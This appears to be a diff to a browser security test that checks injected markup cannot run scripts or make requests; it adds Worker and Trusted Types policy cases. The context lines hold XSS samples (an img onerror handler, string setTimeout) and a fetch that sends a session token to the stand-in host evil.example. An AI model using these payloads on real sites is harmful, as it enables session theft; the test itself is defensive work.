@@ -37,6 +37,8 @@ test('injected markup cannot run scripts or send requests', only, async () => {
     try { script.text = 'globalThis.ran = "script"'; document.body.append(script); } catch (error) { outcome.script = error.name; }
     try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.ran = 1">'); } catch (error) { outcome.markup = error.name; }
     try { setTimeout('globalThis.ran = "timer"'); } catch (error) { outcome.timer = error.name; }
+    try { new Worker('./assets/any.js'); } catch (error) { outcome.worker = error.name; }
+    try { trustedTypes.createPolicy('own', { createHTML: String }); } catch (error) { outcome.policy = error.name; }
     await fetch('https://evil.example/?' + localStorage['hatchery.session']).catch((error) => { outcome.fetch = error.name; });
     const style = document.createElement('style');
     style.textContent = 'body { display: none }';
@@ -49,6 +51,8 @@ test('injected markup cannot run scripts or send requests', only, async () => {
     script: 'TypeError',
     markup: 'TypeError',
     timer: 'TypeError',
+    worker: 'TypeError',
+    policy: 'TypeError',
     fetch: 'TypeError',
     styled: 'block',
     ran: 'undefined',
